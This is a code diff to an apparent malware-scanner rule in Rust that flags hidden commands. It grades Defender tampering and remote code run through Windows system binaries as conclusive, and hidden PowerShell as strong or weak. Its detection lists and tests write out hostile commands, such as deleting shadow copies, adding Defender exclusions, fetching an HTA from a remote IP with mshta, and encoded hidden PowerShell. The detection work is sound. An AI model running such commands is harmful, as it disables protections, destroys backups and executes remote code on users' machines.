@@ -30,9 +30,11 @@ declare_rule! {
     /// only make sense when the user must not notice; no library needs to
     /// add Defender exclusions or delete backups.
     ///
-    /// Severity: critical at install, startup or import time; high in code
-    /// a user calls. One PowerShell hiding marker alone is medium when it
-    /// runs by itself and low otherwise.
+    /// Severity: tampering with defences and remote code through a system
+    /// binary are critical in any context. Hidden PowerShell is critical at
+    /// install, startup or import time and high in code a user calls; one
+    /// hiding marker alone is medium when it runs by itself and low
+    /// otherwise.
     ///
     /// ## Example
     /// ```python
@@ -64,7 +66,7 @@ impl Rule for HiddenCommand {
                 let Some(cmd) = shell_text(call) else {
                     continue;
                 };
-                let Some((what, strong)) = judge(&cmd, no_window(call)) else {
+                let Some((what, weight)) = judge(&cmd, no_window(call)) else {
                     continue;
                 };
                 let mut f = code_finding(
@@ -73,11 +75,11 @@ impl Rule for HiddenCommand {
                     call,
                     format!("`{}` {what} {}", call.name, call.context.describe()),
                 );
-                f.severity = match (strong, call.context.is_automatic()) {
-                    (true, true) => Severity::Critical,
-                    (true, false) => Severity::High,
-                    (false, true) => Severity::Medium,
-                    (false, false) => Severity::Low,
+                f.severity = match (weight, call.context.is_automatic()) {
+                    (Weight::Conclusive, _) | (Weight::Strong, true) => Severity::Critical,
+                    (Weight::Strong, false) => Severity::High,
+                    (Weight::Weak, true) => Severity::Medium,
+                    (Weight::Weak, false) => Severity::Low,
                 };
                 f.decoded = Some(crate::rules::preview(&cmd));
                 out.push(f);
@@ -99,7 +101,7 @@ fn no_window(call: &Call) -> bool {
 }
 
 /// What a command line hides, and whether that alone is conclusive.
-fn judge(cmd: &str, no_window: bool) -> Option<(&'static str, bool)> {
+fn judge(cmd: &str, no_window: bool) -> Option<(&'static str, Weight)> {
     let lower = cmd.to_ascii_lowercase();
     const TAMPERING: &[(&str, &str)] = &[
         ("add-mppreference", "adds Microsoft Defender exclusions"),
@@ -112,14 +114,17 @@ fn judge(cmd: &str, no_window: bool) -> Option<(&'static str, bool)> {
         ("recoveryenabled no", "disables system recovery"),
     ];
     if let Some((_, what)) = TAMPERING.iter().find(|(m, _)| lower.contains(m)) {
-        return Some((what, true));
+        return Some((what, Weight::Conclusive));
     }
     let words: Vec<&str> = lower.split_whitespace().collect();
     for pair in words.windows(2) {
         let (p, arg) = (program_name(pair[0]), pair[1]);
         let remote = arg.contains("http:") || arg.contains("https:") || arg.contains("javascript:");
         if remote && matches!(p, "mshta" | "regsvr32" | "rundll32") {
-            return Some(("runs remote code through a Windows system binary", true));
+            return Some((
+                "runs remote code through a Windows system binary",
+                Weight::Conclusive,
+            ));
         }
     }
     if !words
@@ -144,24 +149,41 @@ fn judge(cmd: &str, no_window: bool) -> Option<(&'static str, bool)> {
         (false, true) => "runs PowerShell in a hidden window",
         (false, false) => "runs PowerShell with its execution policy bypassed",
     };
-    (markers > 0).then_some((what, markers >= 2))
+    let weight = if markers >= 2 {
+        Weight::Strong
+    } else {
+        Weight::Weak
+    };
+    (markers > 0).then_some((what, weight))
+}
+
+/// How much a hidden command says on its own.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Weight {
+    /// Tampering with defences or proxying remote code through a system
+    /// binary: no library does either, whoever calls it.
+    Conclusive,
+    /// PowerShell with two hiding markers.
+    Strong,
+    /// One hiding marker.
+    Weak,
 }
 
 #[cfg(test)]
 mod tests {
-    use super::judge;
+    use super::{Weight, judge};
 
     #[test]
     fn hidden_powershell_needs_two_markers() {
         let cmd =
             "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File x.ps1";
-        assert_eq!(judge(cmd, false).map(|j| j.1), Some(true));
+        assert_eq!(judge(cmd, false).map(|j| j.1), Some(Weight::Strong));
         let cmd = "powershell -ExecutionPolicy Bypass -File build.ps1";
-        assert_eq!(judge(cmd, false).map(|j| j.1), Some(false));
-        assert_eq!(judge(cmd, true).map(|j| j.1), Some(true));
+        assert_eq!(judge(cmd, false).map(|j| j.1), Some(Weight::Weak));
+        assert_eq!(judge(cmd, true).map(|j| j.1), Some(Weight::Strong));
         assert_eq!(
             judge("powershell -enc SQBFAFgA -w hidden", false).map(|j| j.1),
-            Some(true)
+            Some(Weight::Strong)
         );
         assert_eq!(judge("powershell Get-ChildItem", false), None);
         assert_eq!(judge("echo -w hidden", false), None);
@@ -170,7 +192,7 @@ mod tests {
     #[test]
     fn defence_tampering_and_proxy_execution() {
         let cmd = "powershell Add-MpPreference -ExclusionPath C:\\Users";
-        assert_eq!(judge(cmd, false).map(|j| j.1), Some(true));
+        assert_eq!(judge(cmd, false).map(|j| j.1), Some(Weight::Conclusive));
         assert!(judge("vssadmin delete shadows /all /quiet", false).is_some());
         assert!(judge("mshta https://203.0.113.7/a.hta", false).is_some());
         assert!(judge("mshta.exe local.hta", false).is_none());
